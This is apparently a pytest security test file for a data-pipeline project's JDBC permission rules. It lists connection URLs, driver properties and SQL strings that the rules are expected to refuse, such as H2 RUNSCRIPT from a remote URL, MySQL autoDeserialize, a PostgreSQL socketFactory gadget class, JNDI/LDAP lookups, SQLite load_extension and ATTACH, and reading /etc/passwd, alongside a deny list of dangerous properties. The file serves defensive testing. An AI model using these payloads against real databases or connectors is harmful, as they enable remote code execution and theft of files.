"""URLs, properties and statements by which a database would run code."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from penstock.core.config.permissions.jdbc import JdbcRules
from penstock.core.config.permissions.jdbc_databases import DATABASES
from penstock.core.config.permissions.rules import Permissions
from support.permissions import limited_to, problems

pytestmark = pytest.mark.security
SINK = "io.confluent.connect.jdbc.JdbcSinkConnector"


SOURCE = "io.confluent.connect.jdbc.JdbcSourceConnector"

MYSQL_CLASSES = (
    *("AUTODESERIALIZE", "exceptionInterceptors", "connectionLifecycleInterceptors", "socketFactory", "logger"),
    *("authenticationPlugins", "defaultAuthenticationPlugin", "propertiesTransform", "clientInfoProvider"),
    *("queryInfoCacheFactory", "serverConfigCacheFactory", "profilerEventHandler", "allowLoadLocalInfileInPath"),
    *("allowUrlInLocalInfile", "detectCustomCollations", "loadBalanceExceptionChecker", "keyManagerFactoryProvider"),
    *("sslContextProvider", "trustManagerFactoryProvider", "keyStoreProvider", "ociConfigFile", "openTelemetry"),
    *("authenticationOpenidConnectCallbackHandler", "authenticationWebAuthnCallbackHandler", "ldapServerHostname"),
    *("initSql", "credentialType", "tlsSocketType", "pipe", "localSocket", "geometryDefaultType", "registerJmxPool"),
    *("allowLoadLocal%49nfile", "%61utoDeserialize"),
)


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://h/x.sql'",
        "jdbc:H2:mem:x",
        "jdbc:hsqldb:mem:x",
        "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://h/db?a=b&SSLFactory=x",
        "jdbc:postgresql://h/db?socket%46actory=x",
        "jdbc:postgresql://h/db?loggerLevel=TRACE&loggerFile=/srv/x.jsp",
        "jdbc:mysql://h/db?autoDeserialize=true&queryInterceptors=x",
        "jdbc:mysql://address=(host=h)(port=1)(autoDeserialize=true)/db",
        "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/db",
        "jdbc:sqlserver://h;socketFactoryClass=x",
        "jdbc:oracle:thin:@ldap://h/x",
        "jdbc:db2://h/db:clientRerouteServerListJNDIName=ldap://h/x;",
        "jdbc:sqlite:x.db?enable_load_extension=true",
        "jdbc:teradata://h/browser=sh,x=1",
        # Wrappers, and unknown databases
        "jdbc:p6spy:mysql://h/db",
        "jdbc:log4jdbc:mysql://h/db",
        "jdbc:otel:mysql://h/db",
        "jdbc:aws-wrapper:postgresql://h/db?wrapperPlugins=x",
        "jdbc:mysql:aws://h/db",
        "jdbc:tc:postgresql:9:///db?TC_INITSCRIPT=file:/x",
        "jdbc:datadirect:sqlserver://h",
        "jdbc:ignite:cfg://file:///tmp/x.xml",
        "jdbc:ignite:thin://h?factory=x",
        "jdbc:hive2://h/db;initFile=x",
        "jdbc:jndi:ldap://h/x",
        "jdbc:mysql+srv://h/db",
        "mysqlx://h/db",
        "%6Adbc:mysql://h/db",
        "java:comp/env/x",
        # DuckDB
        "jdbc:duckdb:;allow_unsigned_extensions=true",
        "jdbc:duckdb:/x.db;session_init_sql_file=/x.sql",
        "jdbc:duckdb:/x.db;temp_directory=/etc",
        "jdbc:duckdb:md:db?motherduck_token=x",
        "jdbc:duckdb:https://h/x.db",
        "jdbc:duckdb:postgres:host=h",
        # MySQL and MariaDB
        *(f"jdbc:mysql://h/db?useSSL=true&{name}=x" for name in MYSQL_CLASSES),
        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=http://evil/x",
        "jdbc:mysql://h/db?ha.loadBalanceStrategy=org.example.Evil",
        "jdbc:mysql://h/db?useConfigs=../../x",
        "jdbc:mysql://h1,(host=h2,queryInterceptors=x)/db",
        "jdbc:mysql://u:p@[h1,address=(host=h2)(autoDeserialize=yes)]/db",
        "jdbc:mysql://h/db?x=1&allowLoadLocalInfile=true#",
        "jdbc:mysql://h/db?useSSL=true;autoDeserialize=true",
        "jdbc:mysql://h/db?useSSL=true&&allowLoadLocalInfile=true&",
        "jdbc:mysql://(host=h,(autoDeserialize=true))/db",
        "jdbc:mysql://h#/db?useSSL=true",
        "jdbc:mysql://h/db;autoDeserialize=true",
        "jdbc:mariadb:aurora://h/db",
        "jdbc:mysql:jdbc:h2:mem:x",
        # PostgreSQL
        "jdbc:postgresql://h/db?service=x",
        "jdbc:postgresql://h/db?authenticationPluginClassName=x",
        "jdbc:postgresql://h/db?jaasApplicationName=x",
        "jdbc:postgresql://h/db?xmlFactoryFactory=x",
        "jdbc:postgresql://h/db?ssl=true&ssl=true&sslfactoryarg=x",
        "jdbc:postgresql://h/db?sslrootcert=http://h/x",
        "jdbc:postgresql:jdbc:h2:mem:x",
        "jdbc:postgresql://h/db\n?x",
        "jdbc:postgresql://ldap://h/x",
        # Oracle
        "jdbc:oracle:thin:@config-file:///tmp/x.json",
        "jdbc:oracle:thin:@config-https://h/x",
        "jdbc:oracle:thin:@ldaps://h/x",
        "jdbc:oracle:thin:a/b@ldap://h/x@//h:1/s",
        "jdbc:oracle:oci:@x",
        "jdbc:oracle:thin:@//h:1521/x?oracle.jdbc.config.file=/x",
        "jdbc:oracle:thin:@//h:1521/x?oracle.jdbc.provider.username=x",
        "jdbc:oracle:thin:@//h:1521/x?oracle.net.KerberosJaasLoginModule=x",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=ipc)(KEY=x)))",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=h)(PORT=1))(TOKEN_LOCATION=/x))",
        # SQL Server
        "jdbc:sqlserver://h;databaseName={a;b};trustManagerClass=x",
        "jdbc:sqlserver://h; socketFactoryClass = x",
        "jdbc:sqlserver://h;user={a}};socketFactoryClass=x};accessTokenCallbackClass=x",
        "jdbc:sqlserver://h;jaasConfigurationName=x",
        "jdbc:jtds:sqlserver://h/db;bufferDir=/x",
        # SQLite, Derby, Db2, others
        "jdbc:sqlite::resource:http://h/x.db",
        "jdbc:sqlite:x.db?temp_store_directory=/etc",
        "jdbc:sqlite:x.db?cache_size=1;ATTACH",
        "jdbc:sqlite:x.db?vfs=x",
        "jdbc:derby:jar:(/x.jar)db",
        "jdbc:derby:classpath:db",
        "jdbc:derby:x;shutdown=true",
        "jdbc:derby://h:1527/db;traceDirectory=/x",
        "jdbc:db2://h:1/db:traceFile=/x;",
        "jdbc:db2://h:1/db:user=a;clientRerouteServerListJNDIName=x;",
        "jdbc:db2:db",
        "jdbc:snowflake://a.snowflakecomputing.com/?authenticator=externalbrowser",
        "jdbc:snowflake://a.snowflakecomputing.com/?tracing=ALL&client_config_file=/x",
        "jdbc:redshift:iam://h/db?plugin_name=x",
    ],
)
def test_urls_that_execute_code_are_refused(url: str) -> None:
    found = JdbcRules().problems({"url": url})
    assert {name for name, _ in found} == {"url"}


def test_properties_that_execute_code_are_refused() -> None:
    postgresql = {"url": "jdbc:postgresql://h/db"}
    for name in ("socketfactory", "SocketFactory", " sslfactory", "loggerFile", "service", "anything"):
        assert [key for key, _ in JdbcRules().problems({**postgresql, name: "x"})] == [name]
        assert [key for key, _ in JdbcRules().problems({**postgresql, name: "x"}, sparks=True)] == [name]
    sink: Any = {"connector__class": "penstock.connectors.SparkSink", "format": "jdbc", "option__dbtable": "t"}
    assert set(problems(Permissions(), **sink, option__url="jdbc:h2:x")) == {"option.url"}
    assert problems(Permissions(), **sink, option__url="jdbc:postgresql://h:5432/db?ssl=true&user=me") == {}


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://h1:5432,h2:5433/db?targetServerType=primary&ApplicationName=a b&currentSchema=a,b",
        "jdbc:postgresql://[::1]:5432/db?options=-c%20statement_timeout=9&connectTimeout=3",
        "jdbc:postgresql:db?sslrootcert=/etc/ca.pem&sslmode=verify-full&reWriteBatchedInserts=true",
        "jdbc:postgresql:///db",
        "JDBC:PostgreSQL://h/",
        "jdbc:mysql://u:p@h1:3306,h2/db?serverTimezone=UTC&useUnicode=true&characterEncoding=utf8",
        "jdbc:mysql:loadbalance://h1,h2:3306/db?ha.loadBalanceStrategy=random",
        "jdbc:mysql:replication://address=(host=h1)(port=3306)(type=source),address=(host=h2)(type=replica)/db",
        "jdbc:mysql://(host=h1,port=3306),(host=h2,user=u,password=p)/db?rewriteBatchedStatements=true",
        "jdbc:mysql:///db",
        "jdbc:mysql://h/db?sessionVariables=sql_mode=ANSI;wait_timeout=3&connectTimeout=3",
        "jdbc:mysql://h/db?sslMode=VERIFY_CA&trustCertificateKeyStoreUrl=file:/etc/ca.jks",
        "jdbc:mariadb:sequential://h1,h2:3307/db?sslMode=verify-full&serverSslCert=/etc/ca.pem&allowMultiQueries=true",
        "jdbc:sqlserver://h\\inst:1433;databaseName={a;b};user=me@h;trustServerCertificate=true;applicationName=x;",
        "jdbc:sqlserver://;serverName=h;loginTimeout=30",
        "jdbc:jtds:sqlserver://h:1433/db;ssl=require",
        "jdbc:oracle:thin:@h:1521:sid",
        "jdbc:oracle:thin:app/secret@h:1521/x",
        'jdbc:oracle:thin:"a@b"/"p@ss"@tcps://h1,h2:1521/x?connect_timeout=3&wallet_location=/etc/wallet',
        "jdbc:oracle:thin:@db_high?TNS_ADMIN=/etc/wallet",
        "jdbc:oracle:thin:@(DESCRIPTION=(RETRY_COUNT=3)(ADDRESS_LIST=(LOAD_BALANCE=on)(ADDRESS=(PROTOCOL=tcps)(HOST=h)"
        '(PORT=1521)))(CONNECT_DATA=(SERVICE_NAME=x.y))(SECURITY=(SSL_SERVER_CERT_DN="CN=a,O=b")))',
        "jdbc:sqlite::memory:",
        "jdbc:sqlite:file:/tmp/x.db?mode=ro&cache=shared",
        "jdbc:sqlite:x.db?journal_mode=WAL&busy_timeout=5000&foreign_keys=on",
        "jdbc:sqlite:x.db?password=any';thing",
        "jdbc:derby:memory:x;create=true",
        "jdbc:derby://h:1527/db;user=u;ssl=basic",
        "jdbc:db2://h:50000/db:currentSchema=S;sslConnection=true;sslTrustStoreLocation=/etc/ca.jks;",
        "jdbc:db2://h:50000/db",
        "jdbc:duckdb:/tmp/x.db;access_mode=READ_ONLY",
        "jdbc:duckdb:",
        "jdbc:redshift://h:5439/db?ssl=true",
        "jdbc:snowflake://a.snowflakecomputing.com/?db=x&warehouse=y&schema=z&role=r",
        "jdbc:clickhouse:http://h:8123/db?socket_timeout=3000",
        "jdbc:ch://h/db",
        "jdbc:trino://h:443/hive/default?SSL=true",
        "jdbc:vertica://h:5433/db?SearchPath=x",
        "jdbc:sap://h:30015/?databaseName=x&encrypt=true",
        "jdbc:teradata://h/DATABASE=x,TMODE=ANSI,CHARSET=UTF8",
        "jdbc:postgresql://h/db?sslmode=require",
        "jdbc:postgresql://h/db?ssl=true&sslfactory=org.postgresql.ssl.NonValidatingFactory",
        "jdbc:mysql://h/db?allowLoadLocalInfile=false&autoDeserialize=false&allowUrlInLocalInfile=false",
        "jdbc:mysql://h/db?defaultAuthenticationPlugin=mysql_native_password",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1521))(CONNECT_DATA=(UR=A)(SID=x)))",
        "jdbc:mysql://h/db?useSSL=true",
        "jdbc:derby:/tmp/x;create=true",
        "jdbc:sqlserver://h;databaseName=x;encrypt=true",
        "jdbc:oracle:thin:@//h:1521/x",
        "jdbc:sqlite:/tmp/x.db",
    ],
)
def test_ordinary_urls_are_allowed(url: str) -> None:
    kind = url[5:].partition(":")[0].casefold()
    given = {"url": url, "user": "u", "password": "p", "dbtable": "t", "driver": sorted(DATABASES[kind].drivers)[0]}
    assert JdbcRules().problems(given, sparks=True) == []


def test_statements_of_databases_inside_of_spark_are_refused() -> None:
    sink: Any = {"connector__class": "penstock.connectors.SparkSink", "format": "jdbc", "option__dbtable": "t"}
    assert set(problems(Permissions(), **sink, option__URL="jdbc:derby:memory:x;create=true")) == {"option.URL"}
    sqlite = {**sink, "option__url": "jdbc:sqlite:/tmp/x.db"}
    assert problems(Permissions(), **sqlite) == {}
    found = problems(Permissions(), **sqlite, option__sessionInitStatement="ATTACH '/etc/x' AS x")
    assert set(found) == {"option.sessionInitStatement"}
    for key, sql in (
        ("option__createTableOptions", "; ATTACH '/etc/x' AS x"),
        ("option__createTableOptions", "/*"),
        ("option__DBTable", "t (a); ATTACH '/etc/x' AS x; --"),
        ("option__dbtable", "(SELECT load_extension('x')) AS t"),
    ):
        assert set(problems(Permissions(), **{**sqlite, key: sql})) == {key.replace("__", ".")}
    for name in ("main.t", '"a; b"', "(SELECT a FROM t WHERE (b > ';')) AS c"):
        assert problems(Permissions(), **{**sqlite, "option__dbtable": name}) == {}
    assert problems(Permissions(), **sqlite, option__createTableOptions="STRICT, WITHOUT ROWID") == {}
    server = {**sink, "option__url": "jdbc:postgresql://h/db"}
    assert problems(Permissions(), **server, option__sessionInitStatement="SET x TO y") == {}
    assert JdbcRules().problems({"url": "jdbc:derby:x;startMaster=true;slaveHost=evil"}) != []
    assert set(problems(Permissions(), **sink, option__url="jdbc:duckdb:/tmp/x.db")) == {"option.url"}


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("connection.url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'"),
        ("connection.url", "jdbc:postgresql://db/app?socketFactory=org.example.Evil"),
        ("connection.allowLoadLocalInfile", "true"),
    ],
)
def test_a_database_that_would_run_code_is_refused(setting: str, value: str) -> None:
    config = {"connector.class": SINK, "connection.url": "jdbc:mysql://db/app", setting: value}
    assert list(problems(Permissions(), **config)) == [setting]


def test_files_of_embedded_databases_are_in_allowed_folders(tmp_path: Path) -> None:
    permissions = limited_to([str(tmp_path)])
    for kind in ("sqlite", "derby"):
        inside, outside = f"jdbc:{kind}:{tmp_path}/db;create=true", f"jdbc:{kind}:/etc/db"
        assert problems(permissions, **{"connector.class": SINK, "connection.url": inside}) == {}
        assert list(problems(permissions, **{"connector.class": SINK, "connection.url": outside})) == ["connection.url"]
    assert problems(permissions, **{"connector.class": SINK, "connection.url": "jdbc:postgresql://db/app"}) == {}


def test_a_file_of_sqlite_has_to_be_allowed_with_and_without_percent_encoding(tmp_path: Path) -> None:
    permissions = limited_to([str(tmp_path)])
    for file, fine in (
        (f"{tmp_path}/a%20b.db", True),
        (f"{tmp_path}%2Fx.db", False),
        (f"file:{tmp_path}/%2e%2e/x", False),
    ):
        found = problems(permissions, **{"connector.class": SINK, "connection.url": f"jdbc:sqlite:{file}"})
        assert list(found) == ([] if fine else ["connection.url"])


@pytest.mark.parametrize(("kind", "fine"), [("postgresql://db/app", True), ("sqlite:/x", False), (" Derby:x", False)])
def test_sql_of_a_jdbc_source_is_checked(kind: str, fine: bool) -> None:
    for setting in ("query", "query.masked", "query.suffix"):
        config = {"connector.class": SOURCE, "connection.url": f"jdbc:{kind}", setting: "SELECT load_extension('x')"}
        assert list(problems(Permissions(), **config)) == ([] if fine else [setting])
        assert list(problems(Permissions(derby_queries=True), **config)) == ([setting] if "sqlite" in kind else [])


def test_files_of_drivers_are_in_allowed_folders(tmp_path: Path) -> None:
    permissions = limited_to([str(tmp_path)])
    for url in (
        "jdbc:postgresql://h/db?sslkey={}/x",
        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=file:{}/x",
        "jdbc:oracle:thin:@x?TNS_ADMIN={}",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcps)(HOST=h)(PORT=1))(MY_WALLET_DIRECTORY={}))",
        "jdbc:db2://h:1/db:sslTrustStoreLocation={};",
        "jdbc:sqlserver://h;trustStore={{{}/x}}".replace("{{", "").replace("}}", ""),
        "jdbc:duckdb:{}/x.db",
    ):
        config = {"connector.class": SINK, "connection.url": url.format(tmp_path)}
        assert problems(permissions, **config) == {}
        for outside in ("/etc", "%2Fetc", f"{tmp_path}/../etc", f"{tmp_path}/%2e%2e/etc"):
            assert list(problems(permissions, **{**config, "connection.url": url.format(outside)})) == [
                "connection.url"
            ]
    config = {"connector.class": SINK, "connection.url": "jdbc:postgresql://h/db", "connection.sslcert": "/etc/x"}
    assert list(problems(permissions, **config)) == ["connection.sslcert"]
    spark: Any = {"connector__class": "penstock.connectors.SparkSink", "format": "jdbc"}
    found = problems(permissions, **spark, option__url="jdbc:postgresql://h/db", option__keytab="/etc/krb5.keytab")
    assert list(found) == ["option.keytab"]
    source = {"connector.class": "penstock.connectors.PostgresSource", "database.hostname": "db,/var/run/postgresql"}
    assert list(problems(permissions, **source)) == ["database.hostname"]


def test_a_refusal_names_what_is_allowed_and_shows_no_secret() -> None:
    rules = JdbcRules()
    ((_, text),) = rules.problems({"url": "jdbc:postgresql://h/db?loggerFile=/x&password=canary"})
    assert "loggerFile=/x is not among the properties of postgresql" in text
    assert "ApplicationName" in text
    assert "canary" not in text
    ((_, text),) = rules.problems({"url": "jdbc:postgresql://h/db?secretThing=canary"})
    assert "secretThing=[hidden]" in text
    ((_, text),) = rules.problems({"url": "jdbc:h2:mem:x;password=canary"})
    assert text.startswith("databases of kind h2 are not among those that `penstock.jdbc.databases.allowed` allows: ")
    ((_, text),) = rules.problems({"url": "jdbc:mysql://h/db", "driver": "org.h2.Driver"})
    assert text.startswith("the driver org.h2.Driver is not one of mysql: com.mysql.cj.jdbc.Driver")


def test_operators_allow_further_databases_and_properties() -> None:
    given = {"url": "jdbc:mysql://h/db?initSql=x", "allowLoadLocalInfile": "true"}
    assert len(JdbcRules().problems(given)) == 2
    assert JdbcRules(properties=("mysql:initSQL", "mysql:allow*Infile=true")).problems(given) == []
    assert len(JdbcRules(properties=("mariadb:*", "mysql:allow*Infile=false")).problems(given)) == 2
    assert JdbcRules(databases=("mariadb",)).problems({"url": "jdbc:mysql://h/db"}) != []
    other = JdbcRules(databases=("exotic",), properties=("exotic:level",))
    assert other.problems({"url": "jdbc:exotic://u:p@h:1/db?level=3;user=u", "level": "1"}) == []
    for url in ("jdbc:exotic://h/db?initFile=x", "jdbc:exotic:h(initFile=x)", "jdbc:exotic:ldap://h/x"):
        assert other.problems({"url": url}) != []
    assert [name for name, _ in other.problems({"url": "jdbc:exotic://h/db", "initFile": "x"})] == ["initFile"]


def test_duckdb_runs_no_sql_of_a_configuration() -> None:
    config = {"connector.class": SOURCE, "connection.url": "jdbc:duckdb:/tmp/x.db"}
    assert problems(Permissions(), **config) == {}
    assert list(problems(Permissions(), **config, query="SELECT * FROM read_csv('/etc/passwd')")) == ["query"]
    unquoted = {**config, "quote.sql.identifiers": "NEVER"}
    assert list(problems(Permissions(), **unquoted)) == ["quote.sql.identifiers"]


def test_urls_in_options_of_other_formats_are_checked() -> None:
    sink: Any = {"connector__class": "penstock.connectors.SparkSink", "format": "hudi"}
    option = "option__hoodie.datasource.hive_sync.jdbcurl"
    assert len(problems(Permissions(), **sink, **{option: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'"})) == 1


def test_settings_of_the_connectors_are_no_properties() -> None:
    config = {"connector.class": SINK, "connection.url": "jdbc:sqlite:x", "connection.attempts": "5"}
    assert problems(Permissions(), **config, **{"connection.backoff.ms": "3", "connection.user": "me"}) == {}
